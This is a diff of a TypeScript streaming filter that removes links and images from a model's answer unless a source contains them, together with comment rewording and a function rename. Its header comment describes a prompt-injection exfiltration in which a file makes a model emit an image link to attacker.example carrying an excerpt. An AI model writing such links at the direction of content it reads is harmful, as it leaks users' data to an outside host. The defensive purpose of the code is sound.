@@ -1,23 +1,23 @@
-// Removes the links and images of an answer that no source contains, while it is written. Whoever wrote a file can make a model write
-// `![](https://attacker.example/?q=EXCERPT)`, and what renders the answer then sends the excerpt there.
+// Removes the links and images of an answer that no source contains, while it is written. The author of a file can make a model write
+// `![](https://attacker.example/?q=EXCERPT)`, and a program that renders the answer then sends the excerpt there.
 //
-// Renderers differ, so the filter does not parse Markdown. It takes apart what any of them reads as a link: `](`, `]:`, `<tag`, and
-// addresses without markup. Each is decided where it begins, from the text alone, so the pieces of a stream make no difference.
+// Renderers differ, so the filter does not parse Markdown. It splits everything that any renderer reads as a link: `](`, `]:`, `<tag`, and
+// addresses without markup. Each construct is decided where it begins, from the text alone, so the pieces of a stream make no difference.
 import type { Excerpt } from './excerpt.js';
 
-/** A construct that is longer when it is still open is taken apart. */
+/** An open construct that is longer is split. */
 const OPEN_CHARACTERS_MAX = 2_000;
 const ADDRESS = /^(?:https?:\/\/|ftp:\/\/|www\.|mailto:)/i;
 const ADDRESS_STARTS = ['http://', 'https://', 'ftp://', 'www.', 'mailto:'];
 const LETTER_OR_DIGIT = /[\p{L}\p{N}]$/u;
 const SCHEME_BEFORE = /[a-z][a-z0-9+.-]*$/i;
-/** Without its brackets a nested label is text. */
+/** Without its brackets, a nested label is text. */
 const IMAGE = /^!\[[^[\]]*\](\((?:[^()]|\([^()]*\))*\))/;
 const OPEN_IMAGE = /^!\[[^[\]]*(?:\](?:\((?:[^()]|\([^()]*\))*(?:\([^()]*)?)?)?$/;
 const BRACKET = /^!\[[^[\]]*\]$/;
 const TARGET = /^\((?:[^()]|\([^()]*\))*\)/;
 const OPEN_TARGET = /^\((?:[^()]|\([^()]*\))*(?:\([^()]*)?$/;
-/** An address and perhaps a title. Other parentheses after a bracket are text. */
+/** An address, and a title if there is one. Other parentheses after a bracket are text. */
 const ONLY_ADDRESS = /^\(\s*(?:<[^<>]*>|\S*)\s*(?:"[^"]*"|'[^']*'|\([^()]*\))?\s*\)$/;
 const AUTOLINK = /^<([a-z][a-z0-9+.-]*:[^\s<>]*)>/i;
 const OPEN_AUTOLINK = /^<(?:[a-z][a-z0-9+.-]*(?::[^\s<>]*)?)?$/i;
@@ -25,7 +25,7 @@ const TRAILING_PUNCTUATION = /[.,;:!?'">)\]}*_~`]+$/;
 const ASCII = /^[\x21-\x7e]+/;
 const WORD = /^[\p{L}\p{N}]+|^./su;
 
-/** Of the text that follows, `take` characters become `show`. Null: what follows decides. */
+/** The next `take` characters are replaced by `show`. Null when the following text decides. */
 type Step = { take: number; show: string } | null;
 
 export class LinkFilter {
@@ -35,13 +35,13 @@ export class LinkFilter {
 
   constructor(private readonly sources: SourceAddresses) {}
 
-  /** What can be shown of the answer after this piece. */
+  /** Returns the text that can be shown after this piece. */
   add(piece: string): string {
     this.held += piece;
     return this.take(false);
   }
 
-  /** The rest of the answer. */
+  /** Returns the rest of the answer. */
   end(): string {
     return this.take(true);
   }
@@ -84,7 +84,7 @@ export class LinkFilter {
     const [image, target = ''] = IMAGE.exec(rest) ?? [];
     if (image !== undefined) {
       if (this.isKnown(target)) return { take: image.length, show: image };
-      // What stood around the image must not join to something else.
+      // The text around the image must not be joined to a link.
       return { take: image.length, show: /(?:^|\s)$/.test(this.shownEnd) ? '' : ' ' };
     }
     if (!OPEN_IMAGE.test(rest)) return keep(rest);
@@ -107,34 +107,34 @@ export class LinkFilter {
     return /^<[a-z!?/]/i.test(rest) ? { take: 1, show: '< ' } : keep(rest);
   }
 
-  /** An address of another scheme, which has been shown already. */
+  /** An address of another scheme, whose scheme has been shown already. */
   private otherScheme(rest: string, mustDecide: boolean): Step {
     if (!mustDecide && '://'.startsWith(rest) && rest !== '://') return null;
     const [scheme] = SCHEME_BEFORE.exec(this.shownEnd) ?? [];
-    return rest.startsWith('://') && scheme !== undefined ? this.run(rest, scheme, mustDecide) : keep(rest);
+    return rest.startsWith('://') && scheme !== undefined ? this.bareAddress(rest, scheme, mustDecide) : keep(rest);
   }
 
   private address(rest: string, mustDecide: boolean): Step {
     if (LETTER_OR_DIGIT.test(this.shownEnd)) return keep(rest);
-    if (ADDRESS.test(rest)) return this.run(rest, '', mustDecide);
+    if (ADDRESS.test(rest)) return this.bareAddress(rest, '', mustDecide);
     const start = rest.toLowerCase();
     return !mustDecide && ADDRESS_STARTS.some((known) => known.startsWith(start)) ? null : keep(rest);
   }
 
-  /** An address reaches to white space, however much of it a renderer would take. */
-  private run(rest: string, scheme: string, mustDecide: boolean): Step {
-    const [run = ''] = /^(?:(?!\]\()[^\s<])+/.exec(rest) ?? [];
-    if (run.length === rest.length && !mustDecide) return null;
-    if (this.isKnownBefore(scheme, run)) return { take: run.length, show: run };
-    // What follows in a script without spaces is text.
-    const [ascii = ''] = ASCII.exec(run) ?? [];
+  /** An address extends to white space, whatever part of it a renderer would take. */
+  private bareAddress(rest: string, scheme: string, mustDecide: boolean): Step {
+    const [whole = ''] = /^(?:(?!\]\()[^\s<])+/.exec(rest) ?? [];
+    if (whole.length === rest.length && !mustDecide) return null;
+    if (this.isKnownBefore(scheme, whole)) return { take: whole.length, show: whole };
+    // The characters that follow in a script without spaces are text.
+    const [ascii = ''] = ASCII.exec(whole) ?? [];
     if (this.isKnownBefore(scheme, ascii)) return { take: ascii.length, show: `${ascii} ` };
     return { take: ascii.replace(TRAILING_PUNCTUATION, '').length, show: '' };
   }
 
   /** Punctuation after an address is text. */
-  private isKnownBefore(scheme: string, run: string): boolean {
-    for (let address = run; address !== ''; address = address.slice(0, -1)) {
+  private isKnownBefore(scheme: string, text: string): boolean {
+    for (let address = text; address !== ''; address = address.slice(0, -1)) {
       if (this.sources.contain(scheme + address)) return true;
       if (!TRAILING_PUNCTUATION.test(address)) return false;
     }
